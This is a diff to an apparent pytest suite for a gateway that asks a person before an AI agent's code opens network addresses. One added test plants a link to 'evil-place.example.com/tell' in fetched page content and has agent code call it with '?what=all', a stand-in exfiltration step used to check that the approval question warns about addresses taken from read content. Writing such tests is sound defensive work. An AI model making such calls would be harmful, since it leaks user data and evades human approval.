@@ -6,6 +6,7 @@ from collections.abc import Iterator
 
 import pytest
 
+from shared.store.port import Cause, Tx
 from tests.flows.house import House
 from tests.flows.imports import LIVE_ONLY, agent_zip, imported, live_run, local, rehearsed
 from tests.flows.person import Answered, Json, Person
@@ -156,6 +157,68 @@ def test_only_the_place_that_was_asked_for_is_opened_when_the_person_allows_it(
     assert market.requests == ["GET /a/new"]
 
 
+@pytest.mark.parametrize(
+    "wanted",
+    [
+        'urllib.request.urlopen({address!r} + "/below")',
+        'urllib.request.urlopen(urllib.request.Request({address!r}, method="HEAD"))',
+        "urllib.request.urlopen(urllib.request.Request({address!r}, data=b'x'))",
+        'urllib.request.urlopen({address!r}.replace("http:", "https:"))',
+    ],
+)
+def test_neither_a_path_below_nor_another_method_or_scheme_is_opened_when_one_request_was_allowed(
+    wanted: str, yard: House, market: Shops
+) -> None:
+    person = yard.person(patience_s=40)
+    address = market.address("a")
+    run = parked(person, market, READ.format(address=address) + wanted.format(address=address))
+    question = question_of(person, run)
+    assert (question["method"], question["path"], question["kind"]) == ("GET", "/a/new", "host")
+    assert question["version_id"] == run["version_id"]
+    assert "GET /a/new" in question["sentence"]
+    decide(person, question, "allow")
+    over = after(person, run)
+    assert (over["status"], over["reason"]["code"]) == ("failed", "not_allowed")
+    assert market.requests == ["GET /a/new"]
+
+
+def test_the_question_warns_when_the_address_stood_in_something_the_code_had_read(
+    yard: House, market: Shops, other: Sink
+) -> None:
+    person = yard.person(patience_s=40)
+    hidden = "evil-place.example.com"
+    market.items["a"] = [*market.items["a"], ("a9", f"더 보기: https://{hidden}/tell", 1)]
+    main = f"""
+import urllib.request
+page = urllib.request.urlopen({market.address("a")!r}).read().decode()
+urllib.request.urlopen("https://{hidden}/tell?what=all")
+"""
+    run = live_run(person, main, hosts=[local(market.port)])
+    question = question_of(person, run)
+    assert (question["host"], question["method"], question["path"]) == (hidden, "GET", "/tell?what=all")
+    assert "읽은 내용" in question["warning"]
+    plain = parked(person, market)
+    assert question_of(person, plain)["warning"] == ""
+
+
+def test_a_yes_is_void_when_the_agent_has_another_version_by_now(yard: House, market: Shops) -> None:
+    person = yard.person(patience_s=40)
+    run = parked(person, market)
+    question = question_of(person, run)
+    gateway = yard.databases.own("gateway")
+
+    def another(tx: Tx) -> None:
+        found = tx.get("agents", run["agent_id"])
+        assert found is not None
+        tx.put("agents", run["agent_id"], {**found.data, "version_id": "version_of_tomorrow"})
+
+    gateway.transact(another, cause=Cause(question["workspace_id"], "service:gateway"))
+    with pytest.raises(Answered) as answer:
+        decide(person, question, "allow")
+    assert (answer.value.status, answer.value.body["code"]) == (409, "request_void")
+    assert market.requests == []
+
+
 def test_a_place_inside_a_tunnel_is_asked_for_and_opened_when_it_is_named_by_connect(
     yard: House, market: Shops
 ) -> None:
@@ -170,6 +233,7 @@ except OSError as error:
 """
     run = parked(person, market, main)
     question = question_of(person, run)
+    assert (question["scheme"], question["method"], question["path"]) == ("https", "GET", "/a/new")
     decide(person, question, "allow")
     over = after(person, run)
     assert over["status"] == "succeeded", over["reason"]
